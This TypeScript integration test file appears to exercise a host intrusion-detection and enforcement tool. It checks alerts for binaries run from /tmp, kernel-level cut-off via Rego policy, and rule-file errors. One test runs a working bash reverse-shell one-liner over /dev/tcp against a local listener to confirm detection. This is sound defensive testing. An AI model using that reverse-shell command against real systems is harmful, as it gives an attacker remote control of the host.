import { spawn } from "node:child_process";
import { copyFileSync, existsSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:net";
import type { AddressInfo, Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Alert } from "../../bus/types/alert.ts";
import { cutOff } from "./cut-off.ts";
import { startReeve, until } from "./reeve.ts";
import type { RunningReeve } from "./reeve.ts";
import { Victim } from "./victim.ts";

let reeve: RunningReeve;
let alerts: { subject: string; alert: Alert }[];
let listener: Server;
let port: number;

beforeAll(async () => {
  listener = createServer((socket) => {
    socket.on("error", () => {});
    socket.resume();
    socket.end("exit\n");
  });
  await new Promise<void>((ready) => listener.listen(0, "127.0.0.1", ready));
  port = (listener.address() as AddressInfo).port;
  reeve = await startReeve("loop");
  alerts = [];
  const client = await reeve.plainClient();
  client.subscribe("reeve.alerts.>", {
    callback: (_error, message) => alerts.push({ subject: message.subject, alert: message.json() }),
  });
  await client.flush();
});

afterAll(async () => {
  await reeve?.stop();
  await new Promise((done) => listener.close(done));
});

const alertOf = (rule: string, binary: string) =>
  alerts.find(({ alert }) => alert.rule === rule && binaryOf(alert) === binary);

function binaryOf(alert: Alert): string | undefined {
  return "process" in alert.event ? (alert.event.process?.binary ?? undefined) : undefined;
}

describe("the loop on this host", () => {
  test("a binary run from /tmp is an alert for any client", async () => {
    const binary = join(tmpdir(), `reeve-loop-${process.pid}`);
    copyFileSync("/bin/true", binary);
    try {
      await new Promise((done) => spawn(binary).on("close", done));
      await until(() => alertOf("exec-from-tmp", binary) !== undefined, 10_000, "the alert");
    } finally {
      rmSync(binary);
    }
    const found = alertOf("exec-from-tmp", binary);
    expect(found?.subject).toBe("reeve.alerts.high.exec-from-tmp");
    expect(found?.alert.node).toBe("loop-node");
    expect(alerts.filter(({ alert }) => alert.id === found?.alert.id)).toHaveLength(1);
  });

  test("a reverse shell to a listener is critical", async () => {
    const shell = spawn("bash", ["-c", `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`], {
      stdio: "ignore",
      detached: true,
    });
    await new Promise((done) => shell.on("close", done));
    const isIt = ({ alert }: { alert: Alert }): boolean =>
      alert.rule === "reverse-shell" && JSON.stringify(alert.event).includes(`"dport":${port}`);
    await until(() => alerts.some(isIt), 10_000, "the alert");
    expect(alerts.find(isIt)?.subject).toBe("reeve.alerts.critical.reverse-shell");
  });

  test("a Rego decision cuts the tree off in the kernel, that tree only, and ends with its lease", async () => {
    const bystander = new Victim();
    let victim: Victim | undefined;
    try {
      victim = new Victim();
      // Replacing the shell by a second copy is the finding: the first copy's alert comes before the policy is live.
      const second = join(victim.dir, "second");
      copyFileSync("/bin/bash", second);
      const file = join(reeve.dir, "policies/cut_off.rego");
      const before = await ruleSet();
      writeFileSync(file, cutOff("cut_off", second, "6s"));
      await until(async () => (await ruleSet()) !== before, 10_000, "the policy to be live");

      expect((await victim.run("/bin/echo free")).output).toContain("free");
      await victim.run(`exec ${second} --norc`);
      await until(
        async () => (await victim?.run(`/bin/true`))?.status === 137,
        10_000,
        "the next exec to die by signal 9",
      );

      const marker = join(victim.dir, "marker");
      expect((await victim.run(`/usr/bin/touch ${marker}`)).status).toBe(137);
      expect(existsSync(marker)).toBe(false);
      // The connect is a decision of its own, which may come a moment after the first.
      const connect = async (): Promise<string> =>
        (await victim?.run(`(exec 3<>/dev/tcp/127.0.0.1/${port})`))?.output ?? "";
      await until(
        async () => (await connect()).includes("Operation not permitted"),
        5_000,
        "connect to be refused with EPERM",
      );

      expect((await bystander.run(`/usr/bin/touch ${join(bystander.dir, "marker")}`)).status).toBe(0);
      expect((await bystander.run(`(exec 3<>/dev/tcp/127.0.0.1/${port})`)).status).toBe(0);

      await until(async () => (await victim?.run("/bin/true"))?.status === 0, 20_000, "the lease to end");
      await until(async () => (await connect()) === "", 5_000, "the lease of the connect to end");

      const denials = await reeve.cli("denials", "--since", "1m", "--no-follow", "-o", "json");
      expect(denials.stdout).toContain('"hook":"process_exec"');
      expect(denials.stdout).toContain('"hook":"network_connect"');
    } finally {
      victim?.close();
      bystander.close();
    }
  }, 120_000);

  test("a broken rule file leaves the last good set running, and says file, line and rule", async () => {
    const file = join(reeve.dir, "policies/broken.yaml");
    const before = await ruleSet();
    writeFileSync(file, "id: broken-rule\non: [process_exec]\nwhen: process.binary = (\nseverity: high\nmessage: m\n");
    try {
      const broken = async () => (await reeve.status())?.controller?.ruleset.state === "broken";
      await until(broken, 10_000, "the error in the status");
      const { stdout } = await reeve.cli("status");
      expect(stdout).toContain("broken.yaml");
      expect(stdout).toContain("broken-rule");
      expect(await ruleSet()).toBe(before);
    } finally {
      rmSync(file);
    }
  });
});

/** The digest of the rule set that the engine runs. */
async function ruleSet(): Promise<string | null | undefined> {
  return (await reeve.status())?.engines[0]?.ruleset;
}
